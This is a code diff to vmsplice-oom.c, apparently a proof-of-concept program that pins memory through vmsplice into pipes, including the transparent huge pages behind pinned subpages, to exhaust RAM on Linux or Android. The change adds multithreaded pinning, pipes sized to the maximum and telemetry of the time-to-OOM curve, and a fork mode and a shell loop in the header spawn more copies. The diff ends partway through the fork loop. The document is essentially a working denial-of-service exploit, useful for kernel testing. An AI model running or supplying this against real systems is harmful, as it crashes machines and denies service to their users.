@@ -8,13 +8,23 @@
  *  IMPORTANT: use at your own risk. Don't try to run this unless you
  *  know what you're doing.
  *
- *  gcc -O2 -o vmsplice-oom vmsplice-oom.c -Wall
- *  ./vmsplice-oom [--fork] [--linear]
+ *  gcc -O2 -o vmsplice-oom vmsplice-oom.c -Wall -lpthread
+ *  ./vmsplice-oom [--fork] [--linear] [--threads=N] [--interval=SEC]
  *  ./vmsplice-oom
  *  ./vmsplice-oom --fork
  *
  *  On Android this should allow to test:
  *  while :; do ./vmsplice-oom --linear & done
+ *
+ *  --threads pins from N threads in parallel (default one per online
+ *  CPU), each one filling its own pipes. Every pipe is sized up to
+ *  /proc/sys/fs/pipe-max-size and filled with a single vmsplice of up
+ *  to UIO_MAXIOV pages. Every --interval seconds (default 1) a line
+ *  is printed with the pinned pages, the memory they keep allocated
+ *  (the MemAvailable drop since start, which includes the whole THP
+ *  behind every pinned subpage), both rates, the pipe count and
+ *  MemAvailable/Unevictable. That is the time-to-OOM curve. A final
+ *  line reports how long it took to run out of pipes.
  */
 
 #define _GNU_SOURCE
@@ -23,7 +33,11 @@
 #include <string.h>
 #include <unistd.h>
 #include <fcntl.h>
+#include <pthread.h>
+#include <time.h>
+#include <limits.h>
 #include <sys/mman.h>
+#include <sys/uio.h>
 #include <stdlib.h>
 #include <unistd.h>
 
@@ -32,26 +46,32 @@
 #define NONLINAER_SHIFT 9
 #define PAGES_TO_PIN 256
 
-int main(int argc, char *argv[]) {
-	bool multi_process = false;
-	bool linear = false;
-	int match = 1;
-	for (int i=1; i < argc; i++) {
-		if (!strcmp(argv[i], "--fork"))
-			multi_process = true, match++;
-		if (!strcmp(argv[i], "--linear"))
-			linear = true, match++;
-	}
-	if (match != argc)
-		printf("%s [--fork] [--linear]\n",
-		       argv[0]), exit(1);
+static bool linear;
+static unsigned long max_pages_to_pin = PAGES_TO_PIN;
+
+/* shared telemetry, updated with atomics by the pinning threads */
+static unsigned long pinned_bytes, nr_pipes;
+static bool fallback_reported;
 
+static double now(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return ts.tv_sec + ts.tv_nsec / 1e9;
+}
+
+static void* pin_loop(void *data)
+{
+	bool linear_pin = linear;
 	unsigned long page_size = _PAGE_SIZE;
-	if (!linear)
+	if (!linear_pin)
 		page_size <<= NONLINAER_SHIFT;
+	unsigned long pages_to_pin = max_pages_to_pin;
 	unsigned long page_mask = ~(page_size-1);
-	unsigned long area_size = page_size * PAGES_TO_PIN + ~page_mask;
-	unsigned long pages_to_pin = PAGES_TO_PIN;
+	unsigned long area_size = page_size * pages_to_pin + ~page_mask;
+	struct iovec *iov = calloc(pages_to_pin, sizeof(*iov));
+	if (!iov)
+		perror("calloc"), exit(1);
 
 	bool full = false;
 	for (;;) {
@@ -60,15 +80,20 @@ int main(int argc, char *argv[]) {
 			    MAP_ANONYMOUS|MAP_PRIVATE, -1, 0);
 		if (area == MAP_FAILED)
 			perror("mmap"), exit(1);
-		if (!linear && madvise(area, area_size, MADV_HUGEPAGE) < 0)
+		if (!linear_pin && madvise(area, area_size, MADV_HUGEPAGE) < 0)
 			perror("madvise"), exit(1);
 
 		int pipe_fds[2];
 		if (pipe(pipe_fds) < 0)
-			goto next_process;
+			break;
 		if (!full &&
 		    fcntl(pipe_fds[0], F_SETPIPE_SZ,
 			  pages_to_pin*_PAGE_SIZE) < 0) {
+			if (!__atomic_exchange_n(&fallback_reported, true,
+						 __ATOMIC_RELAXED))
+				fprintf(stderr, "F_SETPIPE_SZ %lu failed: %m, "
+					"falling back to one 4 KiB page per "
+					"pipe\n", pages_to_pin*_PAGE_SIZE);
 			if (close(pipe_fds[0]) < 0)
 				perror("close"), exit(1);
 			if (close(pipe_fds[1]) < 0)
@@ -78,16 +103,17 @@ int main(int argc, char *argv[]) {
 			page_size = _PAGE_SIZE;
 			page_mask = ~(page_size-1);
 			area_size = page_size + ~page_mask;
-			linear = true;
+			linear_pin = true;
 			pages_to_pin = 1;
 			continue;
 		}
+		__atomic_fetch_add(&nr_pipes, 1, __ATOMIC_RELAXED);
 
 		char *page = (void *) ((((unsigned long) area) + ~page_mask) &
 				       page_mask);
 
-		if (!linear) {
-			struct iovec iov[pages_to_pin];
+		ssize_t ret;
+		if (!linear_pin) {
 			for (int i=0; i < pages_to_pin; i++) {
 				char *_page = page + i * page_size;
 				*_page = 0;
@@ -95,30 +121,141 @@ int main(int argc, char *argv[]) {
 				iov[i].iov_len = _PAGE_SIZE;
 			}
 
-			if (vmsplice(pipe_fds[1], iov, pages_to_pin, 0) < 0)
-				perror("vmsplice"), exit(1);
+			ret = vmsplice(pipe_fds[1], iov, pages_to_pin, 0);
 		} else {
 			for (int i=0; i < pages_to_pin; i++) {
 				char *_page = page + i * _PAGE_SIZE;
 				*_page = 0;
 			}
-			struct iovec iov = {
-				.iov_base = page,
-				.iov_len = _PAGE_SIZE*pages_to_pin,
-			};
+			iov[0].iov_base = page;
+			iov[0].iov_len = _PAGE_SIZE*pages_to_pin;
 
-			if (vmsplice(pipe_fds[1], &iov, 1, 0) < 0)
-				perror("vmsplice"), exit(1);
+			ret = vmsplice(pipe_fds[1], iov, 1, 0);
 		}
+		if (ret < 0)
+			perror("vmsplice"), exit(1);
+		__atomic_fetch_add(&pinned_bytes, ret, __ATOMIC_RELAXED);
 		if (munmap(area, area_size) < 0)
 			perror("munmap"), exit(1);
-		continue;
+	}
+	free(iov);
+	return NULL;
+}
 
-	next_process:
-		if (munmap(area, area_size) < 0)
-			perror("munmap"), exit(1);
-		if (!multi_process)
-			pause(), exit(0);
+static void meminfo(unsigned long *mem_avail, unsigned long *unevictable)
+{
+	FILE *file = fopen("/proc/meminfo", "r");
+	if (!file)
+		perror("fopen meminfo"), exit(1);
+
+	char *line = NULL;
+	size_t len = 0;
+	*mem_avail = *unevictable = 0;
+	while (getline(&line, &len, file) > 0) {
+		sscanf(line, "MemAvailable: %lu kB", mem_avail);
+		sscanf(line, "Unevictable: %lu kB", unevictable);
+	}
+	free(line);
+	fclose(file);
+}
+
+static double start_time;
+static unsigned long start_avail;
+
+#define GiB(x) ((double) (x) / (1UL<<30))
+
+static void* telemetry(void *_interval)
+{
+	unsigned long interval = (unsigned long) _interval;
+	unsigned long last_pinned = 0;
+	long last_held = 0;
+	for (;;) {
+		sleep(interval);
+		unsigned long mem_avail, unevictable;
+		meminfo(&mem_avail, &unevictable);
+		unsigned long pinned = __atomic_load_n(&pinned_bytes,
+						       __ATOMIC_RELAXED);
+		long held = (long) (start_avail - mem_avail) << 10;
+		printf("t=%.1fs pinned=%.3fGiB pin_rate=%.3fGiB/s "
+		       "held=%.3fGiB held_rate=%.3fGiB/s pipes=%lu "
+		       "MemAvailable=%luMiB Unevictable=%luMiB\n",
+		       now() - start_time, GiB(pinned),
+		       GiB(pinned - last_pinned) / interval,
+		       GiB(held), GiB(held - last_held) / interval,
+		       __atomic_load_n(&nr_pipes, __ATOMIC_RELAXED),
+		       mem_avail >> 10, unevictable >> 10);
+		fflush(stdout);
+		last_pinned = pinned;
+		last_held = held;
+	}
+	return NULL;
+}
+
+int main(int argc, char *argv[]) {
+	bool multi_process = false;
+	unsigned long nr_threads = sysconf(_SC_NPROCESSORS_ONLN);
+	unsigned long interval = 1;
+	int match = 1;
+	for (int i=1; i < argc; i++) {
+		if (!strcmp(argv[i], "--fork"))
+			multi_process = true, match++;
+		if (!strcmp(argv[i], "--linear"))
+			linear = true, match++;
+		if (!strncmp(argv[i], "--threads=", 10) &&
+		    (nr_threads = strtoul(argv[i] + 10, NULL, 0)))
+			match++;
+		if (!strncmp(argv[i], "--interval=", 11) &&
+		    (interval = strtoul(argv[i] + 11, NULL, 0)))
+			match++;
+	}
+	if (match != argc || !nr_threads || !interval)
+		printf("%s [--fork] [--linear] [--threads=N] "
+		       "[--interval=SEC]\n", argv[0]), exit(1);
+
+	/* one vmsplice per pipe, as large as the pipe and the iovec allow */
+	FILE *file = fopen("/proc/sys/fs/pipe-max-size", "r");
+	unsigned long pipe_max_size;
+	if (file && fscanf(file, "%lu", &pipe_max_size) == 1) {
+		max_pages_to_pin = pipe_max_size / _PAGE_SIZE;
+		if (max_pages_to_pin > UIO_MAXIOV)
+			max_pages_to_pin = UIO_MAXIOV;
+		if (!max_pages_to_pin)
+			max_pages_to_pin = 1;
+	}
+	if (file)
+		fclose(file);
+	printf("pinning %lu pages per pipe from %lu threads\n",
+	       max_pages_to_pin, nr_threads);
+	fflush(stdout);
+
+	unsigned long unevictable;
+	meminfo(&start_avail, &unevictable);
+	start_time = now();
+	pthread_t reporter;
+	if (pthread_create(&reporter, NULL, telemetry, (void *)interval))
+		perror("pthread_create telemetry"), exit(1);
+
+	pthread_t *threads = calloc(nr_threads, sizeof(*threads));
+	if (!threads)
+		perror("calloc"), exit(1);
+	for (unsigned long i = 0; i < nr_threads; i++)
+		if (pthread_create(&threads[i], NULL, pin_loop, NULL))
+			perror("pthread_create"), exit(1);
+	for (unsigned long i = 0; i < nr_threads; i++)
+		pthread_join(threads[i], NULL);
+
+	double elapsed = now() - start_time;
+	unsigned long mem_avail;
+	meminfo(&mem_avail, &unevictable);
+	double held = GiB((long) (start_avail - mem_avail) << 10);
+	printf("out of pipes after %.1fs: pinned=%.3fGiB held=%.3fGiB "
+	       "held_rate=%.3fGiB/s pipes=%lu\n", elapsed, GiB(pinned_bytes),
+	       held, held / elapsed, nr_pipes);
+	fflush(stdout);
+
+	if (!multi_process)
+		pause(), exit(0);
+	for (;;) {
 		pid_t pid = fork();
 		if (pid < 0)
 			perror("fork"), exit(1);